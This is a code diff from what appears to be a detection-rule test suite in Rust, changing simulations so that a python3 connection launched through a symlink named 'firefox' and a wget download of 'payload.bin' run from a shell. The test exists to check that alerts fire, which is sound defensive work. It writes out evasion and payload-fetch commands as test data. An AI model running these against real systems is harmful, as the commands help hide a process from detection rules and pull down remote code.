@@ -378,16 +378,14 @@ fn sim_python_443(c: &Ctx) -> Vec<Proc> {
 
 /// Test 1 again, started through a symlink whose name a rule excludes (`.../firefox`): the
 /// executable is python3 whatever the path used to start it, so the alert must stay.
+/// Started from a shell, so it is not one T1043 group with test 1's python3 (the rule
+/// groups by image, user and parent, and would count this one into test 1's window).
 fn sim_symlink_evasion(c: &Ctx) -> Vec<Proc> {
-    let script = format!(
-        "import socket; s = socket.create_connection(('{NS_V4}', 443), timeout=5); s.close()"
+    let cmd = format!(
+        "{link} -c \"import socket; s = socket.create_connection(('{NS_V4}', 443), timeout=5); s.close()\"; exit $?",
+        link = c.firefox_link.display()
     );
-    vec![proc(
-        "python3",
-        c.quick(&c.firefox_link, &["-c", &script]),
-        NS_V4,
-        443,
-    )]
+    vec![proc("python3", c.quick(&c.sh, &["-c", &cmd]), NS_V4, 443)]
 }
 
 fn sim_http_80(c: &Ctx) -> Vec<Proc> {
@@ -442,28 +440,16 @@ fn sim_dns_tunnel(c: &Ctx) -> Vec<Proc> {
     procs
 }
 
+/// From a shell, so it is not one T1043 group with test 2's wget (same image, user and
+/// parent otherwise).
 fn sim_wget_https(c: &Ctx) -> Vec<Proc> {
     let url = format!("https://{NS_V4}/payload.bin");
     let out = c.out("wget-https-payload.bin");
-    vec![proc(
-        "wget",
-        c.quick(
-            &c.wget,
-            &[
-                "-q",
-                "--no-check-certificate",
-                "-T",
-                "5",
-                "-t",
-                "1",
-                "-O",
-                &out,
-                &url,
-            ],
-        ),
-        NS_V4,
-        443,
-    )]
+    let cmd = format!(
+        "{wget} -q --no-check-certificate -T 5 -t 1 -O {out} {url}; exit $?",
+        wget = c.wget.display()
+    );
+    vec![proc("wget", c.quick(&c.sh, &["-c", &cmd]), NS_V4, 443)]
 }
 
 fn sim_netcat_4444(c: &Ctx) -> Vec<Proc> {
